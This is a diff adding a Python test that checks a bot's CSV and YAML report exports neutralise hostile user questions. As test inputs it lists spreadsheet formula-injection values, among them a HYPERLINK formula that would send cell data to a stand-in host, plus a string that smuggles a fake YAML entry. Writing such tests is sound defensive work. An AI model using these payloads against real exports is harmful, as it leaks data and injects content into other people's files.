@@ -145,3 +145,32 @@ async def test_html_report_renders_its_charts_in_headless_chromium(telegram, eng
     assert '<svg id="per-day"' in dom and '<svg id="answer-rate"' in dom
     assert dom.count('class="bar answer"') >= 1 and dom.count('class="bar fallback"') >= 1
     assert "<polyline" in dom and "Wärmepumpe" in dom
+
+
+async def test_exports_turn_no_user_text_into_formulas_or_live_yaml(tmp_path):
+    import yaml
+    from test_querylog import record
+
+    from bot.store.querylog import QueryLog
+
+    data = tmp_path / "data"
+    hostile = ['=HYPERLINK("http://x.example/?"&A1)', "+1+1", "-2+3", "@SUM(A1:A9)", "\tTab", "=1+1"]
+    escape = "Förderung für Wärmepumpen?\n- id: evil\n  answer: gehackt\n#"
+    log = QueryLog(data)
+    await log.open()
+    for text in [*hostile, escape, escape]:
+        log.add(record(text, outcome="fallback"))
+    await log.close()
+
+    table = tmp_path / "log.csv"
+    run_cli("report", "--csv", str(table), "--data-dir", str(data))
+    with table.open(encoding="utf-8") as file:
+        questions = [line["text"] for line in csv.DictReader(file)]
+    assert len(questions) == 8
+    assert not [q for q in questions if q[0] in "=+-@\t\r"]
+    assert "'=HYPERLINK" in "".join(questions)  # kept, but as text
+
+    suggested = run_cli("report", "suggest", "--data-dir", str(data)).stdout
+    assert "\n- id: evil" not in suggested
+    phrasings = yaml.safe_load(suggested)  # the questions come back as questions, not as YAML of their own
+    assert escape in phrasings and all(isinstance(p, str) for p in phrasings)
